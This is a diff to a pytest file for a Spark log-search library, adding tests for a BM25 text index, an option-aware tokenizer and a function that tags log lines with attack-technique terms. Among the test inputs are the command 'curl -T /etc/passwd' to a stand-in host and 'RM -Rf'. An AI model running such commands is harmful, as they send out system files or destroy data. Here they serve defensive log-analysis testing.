@@ -1,11 +1,13 @@
 """Stored indexes against comparing everything."""
 
+import re
+
 import numpy as np
 import pytest
+from pyspark.sql import functions as F
 
-from emberlog.operators import vectorindex
-from emberlog.operators.retrieval import nearest
-from emberlog.session import shared_dir
+from emberlog.operators import textindex, vectorindex
+from emberlog.operators.retrieval import bm25, nearest
 
 
 def vectors(spark, n=1200, seed=3, dim=12):
@@ -81,3 +83,57 @@ def test_odd_vectors(spark, tmp_path):
         vectorindex.build(spark.createDataFrame([(1, [1.0]), (2, [1.0, 2.0])], "doc_id long, v array<float>"), str(tmp_path), {})
     with pytest.raises(ValueError, match="dimensions"):
         vectorindex.search(index, spark.createDataFrame([(1, [1.0])], "query_id long, q array<float>"))
+
+
+WORDS = [f"w{i}" for i in range(400)]
+
+
+def texts(spark, n=600):
+    r = np.random.default_rng(5)
+    p = 1 / np.arange(1, 401)
+    return [(i, " ".join(r.choice(WORDS, size=int(r.integers(5, 60)), p=p / p.sum()))) for i in range(n)]
+
+
+def test_text_index_ranks_as_scoring_everything_and_opens_less(spark, tmp_path, monkeypatch):
+    monkeypatch.setattr(textindex, "BLOCK", 16)
+    monkeypatch.setattr(textindex, "FIRST", 3)
+    rows = texts(spark)
+    rows += [(1000 + i, rows[7][1]) for i in range(300)]  # a third holds one text
+    docs = spark.createDataFrame(rows, "doc_id long, text string")
+    asked = spark.createDataFrame([(i, t) for i, t in rows if i % 40 == 7 and i < 1000] + [(5000, "w0"), (5001, "w0 w399 w398"), (5002, "nothing"), (5003, "w1 w1 w0")], "query_id long, text string")
+    index, measured = textindex.build(docs, str(tmp_path), {}), {}
+    found = textindex.search(index, asked, k=5, measured=measured)
+    assert pairs(found) == pairs(bm25(docs, asked, 5))
+    assert 0 < measured["opened"] < 0.8 * measured["all"]
+    blocks = index.blocks.selectExpr("term", "size(postings) AS n").groupBy("term").agg({"n": "max", "*": "count"}).collect()
+    assert max(r["max(n)"] for r in blocks) <= 4 * 16 + 300  # all copies of a text stay in their own blocks by id
+    assert textindex.build(docs, str(tmp_path), {}).reused and not textindex.build(docs.limit(10), str(tmp_path), {}).reused
+
+
+def test_text_index_of_odd_rows(spark, tmp_path):
+    docs = spark.createDataFrame([(1, None, 0), (2, "", 0), (3, "Ssh -T ssh", 0), (None, "ssh", 0), (4, "x " * 50_000 + "ssh", 0)], "doc_id long, text string, part int")
+    asked = spark.createDataFrame([(1, "SSH"), (2, None), (3, ""), (None, "ssh"), (4, "-t"), (5, "-T")], "query_id long, text string")
+    index = textindex.build(docs, str(tmp_path), {}, textindex.option_tokens)
+    # options keep their case
+    assert pairs(textindex.search(index, asked, 3)) == [(1, 1, 3), (1, 2, 4), (5, 1, 3)]
+    none = textindex.build(docs.where("doc_id < 0"), str(tmp_path), {})
+    assert textindex.search(none, asked, 3).count() == 0 and textindex.search(index, asked.where("query_id < 0"), 3).count() == 0
+
+
+TOKEN = re.compile(r"--?[A-Za-z][\w-]*|\w+(?:[./:@-]\w+)*")
+
+
+@pytest.mark.parametrize("text", ["curl -T /etc/passwd https://a.example:8080/x?y=1", "--upload-file=x a_b-c.d", "ÄÖ 무차별 대입 x@y.z", "-1 -- --- -a-b-", "a..b a./b", "", "́x ²³ Ⅳ", "ls -la\tRM -Rf"])
+def test_option_tokens(spark, text):
+    got = spark.createDataFrame([(text,)], "t string").select(textindex.option_tokens(F.col("t")).alias("w")).first()["w"]
+    assert got == [t if t.startswith("-") else t.lower() for t in TOKEN.findall(text)]
+
+
+def test_search_text(spark):
+    rows = [("Bash ran /usr/bin/CRON", "exec", "system"), ("curl -T x http://h", None, "web"), ("curl -t x http://h", "", "web"), ("반복된 인증 실패, 압축", "e", "auth"), (None, None, None), ("xmlrpc.php XML-RPC", "a", "b")]
+    df = spark.createDataFrame(rows, "d string, e string, l string")
+    got = [r["q"].split("\n") for r in df.select(textindex.search_text(F.col("d"), F.col("e"), F.col("l")).alias("q")).collect()]
+    assert got == [
+        ["Bash ran /usr/bin/CRON", "exec", "system", "unix shell command interpreter", "scheduled task job cron"], ["curl -T x http://h", "", "web", "upload file outbound transfer exfiltration alternative protocol"], ["curl -t x http://h", "", "web"],
+        ["반복된 인증 실패, 압축", "e", "auth", "brute force password guessing authentication", "archive collected data compression archive utility"], ["", "", ""], ["xmlrpc.php XML-RPC", "a", "b", "web authentication password guessing brute force"],
+    ]
